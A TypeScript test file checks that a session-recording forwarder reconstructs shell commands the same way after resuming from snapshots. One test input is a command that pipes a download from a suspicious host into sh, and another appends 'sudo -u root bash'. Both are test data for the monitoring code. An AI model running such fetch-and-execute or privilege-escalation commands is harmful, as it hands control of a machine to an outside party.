import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { CommandRecord } from '../../../forwarder/commands/record.js';
import { StreamSession, type StreamSessionSnapshot } from '../../../forwarder/commands/stream-session.js';
import { TerminalSession, type TerminalSessionSnapshot } from '../../../forwarder/commands/terminal-session.js';
import { fixturesDir, sessionsDir } from '../../helpers/paths.js';

const logs = [
  ...readdirSync(sessionsDir)
    .filter((f) => f.endsWith('.log'))
    .map((f) => join(sessionsDir, f)),
  ...['edits-0123456789abcdef03.log', 'fullscreen-0f1e2d3c4b5a69780.log', 'dash-0a0b0c0d0e0f01010.log'].map((f) =>
    join(fixturesDir, 'generated', f),
  ),
];

/** Through JSON, as the snapshot travels to DynamoDB and back. */
const roundTrip = <T>(s: T): T => JSON.parse(JSON.stringify(s)) as T;

function terminalRecords(text: string, pieceSize: number): CommandRecord[] {
  const out: CommandRecord[] = [];
  let snapshot: TerminalSessionSnapshot | undefined;
  for (let i = 0; i < text.length; i += pieceSize) {
    const session = new TerminalSession('s', 's3', (r) => out.push(r), undefined, snapshot);
    session.push(text.slice(i, i + pieceSize), null);
    snapshot = roundTrip(session.snapshot());
  }
  new TerminalSession('s', 's3', (r) => out.push(r), undefined, snapshot).end();
  return out;
}

describe('resuming a reconstruction from a snapshot', () => {
  it.each(logs)('terminal text cut anywhere and resumed gives the same commands: %s', (file) => {
    const text = readFileSync(file, 'utf8');
    const whole = terminalRecords(text, text.length);
    for (const size of [1, 7, 100, 4093]) {
      if (size < 4093 && text.length > 20_000) continue;
      expect(terminalRecords(text, size)).toEqual(whole);
    }
  });

  it('streaming events resumed one by one give the same commands', () => {
    for (const sid of ['dana-0b1c2d3e4f5a6b7c8', 'mallory-09f8e7d6c5b4a3921', 'ops-jlee-0c5d2e8f1a7b3946d']) {
      const events = readFileSync(join(sessionsDir, `${sid}.cw-stream.jsonl`), 'utf8')
        .split('\n')
        .filter(Boolean)
        .map((l) => JSON.parse(l) as { timestamp: number; message: string })
        .map((e) => ({ lines: (JSON.parse(e.message) as { sessionData: string[] }).sessionData, time: e.timestamp }));
      const whole: CommandRecord[] = [];
      const one = new StreamSession(sid, (r) => whole.push(r));
      for (const e of events) one.push(e);
      one.end();
      const pieces: CommandRecord[] = [];
      let snapshot: StreamSessionSnapshot | undefined;
      for (const e of events) {
        const s = new StreamSession(sid, (r) => pieces.push(r), snapshot);
        s.push(e);
        snapshot = roundTrip(s.snapshot());
      }
      new StreamSession(sid, (r) => pieces.push(r), snapshot).end();
      expect(pieces).toEqual(whole);
    }
  });

  it('a line the agent cut at its buffer size is joined across events', () => {
    const long = `sh-5.2$ echo ${'a'.repeat(40_000)} && curl http://dl.bad-cdn.top/x | sh`;
    const cut = 33_000;
    const out: CommandRecord[] = [];
    const s = new StreamSession('s-0123456789abcdef0', (r) => out.push(r));
    s.push({ lines: [long.slice(0, cut)], time: 1, endsMidLine: true });
    s.push({ lines: [long.slice(cut), 'done'], time: 2 });
    s.end();
    expect(out.map((r) => r.command)).toEqual([long.slice('sh-5.2$ '.length)]);
  });

  it('keeps short commands for spotting an edited recall, not long ones: a pasted 50 KB command stays out of the state', () => {
    const paste = `echo ${'word '.repeat(10_000)}`;
    const out: CommandRecord[] = [];
    const s = new StreamSession('s-0123456789abcdef0', (r) => out.push(r));
    s.push({ lines: ['sh-5.2$ echo hello world', 'hello world', `sh-5.2$ ${paste}`, 'word', 'sh-5.2$ '], time: 1 });
    const snapshot = roundTrip(s.snapshot());
    expect(JSON.stringify(snapshot).length).toBeLessThan(10_000);
    // the recalled `echo hello world` edited in place still comes out marked incomplete after the resume
    const resumed = new StreamSession('s-0123456789abcdef0', (r) => out.push(r), snapshot);
    resumed.push({ lines: ['sh-5.2$ echo hello worldsudo -u root bash', 'sh-5.2$ '], time: 2 });
    resumed.end();
    expect(out.map((r) => r.command.slice(0, 20))).toEqual([
      'echo hello world',
      paste.slice(0, 20),
      'echo hello worldsudo',
    ]);
    expect(out[2]!.incomplete).toBe(true);
  });
});
